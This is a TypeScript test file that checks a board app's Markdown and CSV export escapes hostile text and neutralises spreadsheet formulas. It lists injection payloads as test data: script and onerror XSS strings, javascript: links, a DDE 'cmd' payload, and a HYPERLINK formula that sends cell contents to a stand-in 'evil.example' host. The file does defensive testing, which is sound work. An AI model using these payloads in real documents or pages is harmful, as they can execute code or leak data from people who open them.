import { describe, expect, it } from "vitest";
import { csvText, escapeMarkdown } from "./escape";
import { exportBoard } from "./export-board";
import { FixtureBoard } from "./testing/fixture-board";

/**
 * RULES 17–18 against hostile text in every field a person can type: the brief
 * and the CSV of a board full of it have exactly the structure of the same
 * board with harmless text, and no cell can run as a formula.
 */

const HOSTILE = [
  "</script><img src=x onerror=alert(1)>",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\u0000=1",
  "  =1+1",
  "＝1+1",
  "| pipes | in | cells |",
  "[link](javascript:alert(1))",
  "![x](http://evil.example/t.png)",
  "# Heading\n## Another\nline",
  "note\n\n| x | y |\n|---|---|",
  "- list\n1. item\n> quote\n2) more",
  "`code` **bold** _em_ ~~strike~~ <b>html</b>",
  "<!-- comment --> &lt;b&gt; &amp;",
  "\\ backslash \\| pipe \\",
  "line\u2028separator\u2029paragraph",
];

/** The same board twice: once with `text(i)` = the i-th hostile string, once with a harmless word. */
function board(text: (i: number) => string) {
  let i = 0;
  const next = () => text(i++ % HOSTILE.length);
  const b = new FixtureBoard();
  const matrix = b.addTemplate("impact-effort", 0, 0, 900, 900);
  const swot = b.addTemplate("swot", 1200, 0, 800, 800);
  b.addTemplate("theme-map", 0, 1200, 1600, 800);
  const instance = b.snapshot.templates[matrix.id];
  if (instance) {
    instance["title"] = next();
    instance["zones"] = (instance["zones"] as { name: string }[]).map((z) => ({ ...z, name: next() }));
  }
  const notes = HOSTILE.map((_, n) => b.addScored(matrix, 1 + (n % 10), 1 + ((n * 3) % 10), next(), { author: next(), urgency: 5, risk: 5 }));
  b.addNote({ x: 1400, y: 200 }, next());
  b.addRecord({ kind: "pairing", id: "pair-1", templateId: swot.id, pairing: "SO", text: next(), itemIds: notes.slice(0, 2) });
  b.addTheme(100, 1300, 600, 500, { name: next(), driver: next(), implication: next(), criteria: next(), timeline: next() });
  b.addRecord({ kind: "vision", id: "vision", text: next() });
  b.addRecord({
    kind: "decision",
    id: "dec-1",
    number: 1,
    status: "accepted",
    date: "2026-12-01",
    deciders: next(),
    title: next(),
    context: next(),
    decision: next(),
    consequences: { positive: next(), negative: next(), neutral: next() },
    alternatives: [{ option: next(), whyNot: next() }],
    implementation: next(),
    reviewDate: "",
    noteIds: [],
    history: [],
    createdAt: 1,
  });
  return b;
}

function exportOf(b: FixtureBoard, format: "md" | "csv", title: string): string {
  return exportBoard(format, { snapshot: b.snapshot, title, template: "impact-effort", exportedAt: new Date(0), votes: new Map() }).body;
}

/** The Markdown a line opens with (heading, list item, table row, emphasis), or "" for plain text. */
function skeleton(line: string): string {
  return /^(#{1,6} |\| |- \*\*|- |\*\*|_|\d+\. |> )/.exec(line)?.[0] ?? "";
}

/** RFC 4180 parsing, enough to read our own output back. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const body = csv.replace(/^\uFEFF/, "");
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && body[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

describe("hostile text in exports (RULES 17, 18)", () => {
  const hostileTitle = "Q3 </script><script>alert(1)</script> | =1+1 [x](javascript:y)";

  it("Markdown: the brief of a hostile board has the structure of a harmless one; no HTML, link or cell escapes", () => {
    const hostile = exportOf(board((i) => HOSTILE[i] ?? ""), "md", hostileTitle).split("\n");
    const harmless = exportOf(board(() => "x"), "md", "x").split("\n");
    expect(hostile.map(skeleton)).toEqual(harmless.map(skeleton));
    const text = hostile.join("\n");
    expect(text).not.toMatch(/</);
    expect(text).not.toMatch(/(?<!\\)[[\]`]/);
    expect(text).toContain("\\`code\\` \\*\\*bold\\*\\* \\_em\\_ \\~\\~strike\\~\\~");
    expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/);
    for (const line of hostile.filter((l) => /^\| \d/.test(l))) {
      expect(line.replace(/\\\|/g, "").split("|").length - 1, line).toBe(12);
    }
    expect(hostile[0]).toBe("# Strategy brief: Q3 &lt;/script&gt;&lt;script&gt;alert\\(1\\)&lt;/script&gt; \\| =1\\+1 \\[x\\]\\(javascript:y\\)");
  });

  it("Markdown: each hostile string becomes one inert line", () => {
    for (const h of HOSTILE) {
      const out = escapeMarkdown(h);
      expect(out).not.toMatch(/[\r\n\u2028\u2029]/);
      expect(out).not.toMatch(/^(#|>|-|\+|\d+[.)]|\||`|~)/);
      expect(out).not.toMatch(/[<>]/);
    }
  });

  it("CSV: every row has every column; no text cell can start a formula; text survives behind the apostrophe", () => {
    const b = board((i) => HOSTILE[i] ?? "");
    const rows = parseCsv(exportOf(b, "csv", hostileTitle));
    const [header, ...data] = rows;
    expect(header).toHaveLength(13);
    expect(data.length).toBeGreaterThanOrEqual(HOSTILE.length);
    const textColumns = [0, 1, 2, 3, 4, 11, 12];
    for (const row of data) {
      expect(row).toHaveLength(13);
      for (const c of textColumns) {
        const cell = row[c] ?? "";
        expect(cell, `column ${header?.[c]}: ${JSON.stringify(cell)}`).not.toMatch(/^[\t\r\n\0]|^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
      }
    }
    const cells = data.flatMap((row) => textColumns.map((c) => row[c]));
    for (const kept of [`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'@SUM(A1:A9)", "'+cmd|' /C calc'!A0", "'＝1+1", "| pipes | in | cells |"]) {
      expect(cells).toContain(kept);
    }
  });

  it("CSV: csvText neutralises every formula start, quotes what RFC 4180 needs and leaves plain text alone", () => {
    expect(csvText("  =1+1")).toBe("'  =1+1");
    expect(csvText("＝1+1")).toBe("'＝1+1");
    expect(csvText("\u0000=1")).toBe("'\u0000=1");
    expect(csvText("\n=1")).toBe(`"'\n=1"`);
    expect(csvText("a,b")).toBe(`"a,b"`);
    expect(csvText('say "hi"')).toBe(`"say ""hi"""`);
    expect(csvText("Plain text 1+1=2")).toBe("Plain text 1+1=2");
  });
});
